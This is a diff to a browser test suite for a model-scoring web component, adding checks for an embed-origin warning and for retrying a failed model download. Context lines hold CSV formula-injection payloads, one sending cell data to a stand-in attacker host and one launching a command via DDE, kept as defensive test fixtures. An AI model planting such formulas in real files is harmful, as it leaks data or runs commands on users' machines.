@@ -212,6 +212,20 @@ test.describe('hostile values are refused quickly, with a readable message', () 
   });
 });
 
+test('embed.html names a ?parent= that is not an origin', async ({ page }) => {
+  const warnings: string[] = [];
+  page.on('console', (message) => {
+    if (message.type() === 'warning') warnings.push(message.text());
+  });
+  await page.goto(
+    `./embed.html?model=drug&parent=${encodeURIComponent('https://host.example/page')}`,
+  );
+  await expect(page.locator('formcast-result [part="label"]')).toBeVisible();
+  expect(warnings).toContain(
+    'formcast: embed.html\'s ?parent="https://host.example/page" is not an origin: give the embedding page\'s scheme, host and port only, e.g. https://example.com (no path, no trailing text). The height and events are not posted until it is.',
+  );
+});
+
 // ── CSV files ─────────────────────────────────────────────────────────────────────────────────
 
 const HEADER = 'id,Age,Sex,BP,Cholesterol,Na_to_K';
@@ -295,6 +309,15 @@ test.describe('CSV files: every row its own, safe to open, scored again', () => 
     page,
   }) => {
     await openBatch(page);
+    // First a model that cannot be downloaded for the batch's worker: Try again scores the file.
+    await page.route('**/models/drug/model*.onnx', (route) => route.fulfill({ status: 404 }));
+    await upload(page, 'first.csv', `${HEADER}\n${ROWS[0]}\n`);
+    const failure = batch(page).locator('[part="error"]');
+    await expect(failure).toHaveAttribute('data-code', 'MODEL_FETCH_FAILED');
+    await page.unroute('**/models/drug/model*.onnx');
+    await failure.getByRole('button', { name: 'Try again' }).click();
+    await expect(batch(page).getByTestId('batch-summary')).toContainText('1 row: 1 scored');
+
     const formulas = [
       '=HYPERLINK("http://evil.example/?leak="&B2,"Click")',
       "+cmd|' /C calc'!A0",
